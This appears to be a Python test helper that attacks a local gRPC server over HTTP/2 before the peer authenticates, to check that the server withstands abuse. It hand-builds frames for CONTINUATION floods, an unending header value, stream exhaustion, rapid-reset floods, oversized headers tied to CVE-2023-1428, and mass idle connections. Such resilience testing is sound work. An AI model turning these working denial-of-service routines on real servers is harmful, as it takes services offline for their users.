"""Peers that misuse HTTP/2 before they have shown a token, frame by frame.

Each attack takes the port of 127.0.0.1 to go to, and returns when it has sent
all or been cut off.
"""

import contextlib
import socket
import struct
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
# Where attacks come from, so that others of this machine are other peers.
ADDRESS = "127.0.0.2"
PATH = b"/nianbao.v1.ExtractorService/ExtractReport"


def frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


def number(value, bits):
    """An integer of HPACK behind a prefix of so many bits, the others 0."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    value -= most
    encoded = bytes([most])
    while value >= 128:
        encoded += bytes([value % 128 + 128])
        value //= 128
    return encoded + bytes([value])


def field(name, value):
    """A header that is kept in no table, as HPACK."""
    return (b"\0" + number(len(name), 7) + name + number(len(value), 7) +
            value)


def request(*more):
    """The headers of a call."""
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", PATH),
              (b":authority", b"a"), (b"content-type", b"application/grpc"),
              (b"te", b"trailers")) + more
    return b"".join(field(name, value) for name, value in fields)


class Peer:
    """A connection that reads nothing that matters and acknowledges nothing."""

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), 30,
                                               (ADDRESS, 0))
        # What the other end says is taken away, so that it is never full.
        threading.Thread(target=self.drain, daemon=True).start()
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def drain(self):
        with contextlib.suppress(OSError):
            while self.socket.recv(1 << 16):
                pass

    def send(self, data):
        """False when the connection is over."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def close(self):
        self.socket.close()


def continuations(port, connections=5, size=67_000_000):
    """Headers that never end: CONTINUATION upon CONTINUATION."""
    peers = [Peer(port) for _ in range(connections)]
    filler = field(b"a", b"b") * 3_200
    for peer in peers:
        peer.send(frame(HEADERS, 0, 1, request()))
    for _ in range(size // len(filler) // connections):
        for peer in peers:
            peer.send(frame(CONTINUATION, 0, 1, filler))
    return peers


def long_string(port, connections=5, size=67_000_000):
    """One header whose value never ends."""
    peers = [Peer(port) for _ in range(connections)]
    for peer in peers:
        begin = b"\0" + number(1, 7) + b"x" + number(1 << 30, 7)
        peer.send(frame(HEADERS, 0, 1, request() + begin))
    for _ in range(size // 16_000 // connections):
        for peer in peers:
            peer.send(frame(CONTINUATION, 0, 1, b"y" * 16_000))
    return peers


def streams(port, count=100_000):
    """Calls beyond any limit of streams, none of which ends."""
    peer = Peer(port)
    block = request()
    for begin in range(0, count, 1000):
        if not peer.send(b"".join(
                frame(HEADERS, END_HEADERS, 2 * i + 1, block)
                for i in range(begin, begin + 1000))):
            break
    return [peer]


def resets(port, count=100_000):
    """Calls that are reset as soon as they are made."""
    peer = Peer(port)
    block = request()
    reset = struct.pack(">I", 8)
    for begin in range(0, count, 1000):
        if not peer.send(b"".join(
                frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
                frame(RST_STREAM, 0, 2 * i + 1, reset)
                for i in range(begin, begin + 1000))):
            break
    return [peer]


def oversized(port):
    """Headers above 8 KB of the kinds by which gRPC could be made to abort
    (CVE-2023-1428)."""
    peers = []
    for name, value in ((b"te", b"x"), (b":scheme", b"x"),
                        (b"grpclb_client_stats", b"x")):
        peer = Peer(port)
        more = tuple((b"x%d" % i, b"y" * 1000) for i in range(12))
        peer.send(frame(HEADERS, END_HEADERS, 1,
                        field(name, value) + request(*more)))
        peers.append(peer)
    return peers


def trickles(port, connections=1500):
    """Connections that say nothing, or never get a request out."""
    peers = []
    for i in range(connections):
        try:
            peers.append(Peer(port))
        except OSError:
            break
        if i % 2:
            peers[-1].send(b"\0\0")
    return peers


ATTACKS = (continuations, long_string, streams, resets, oversized, trickles)
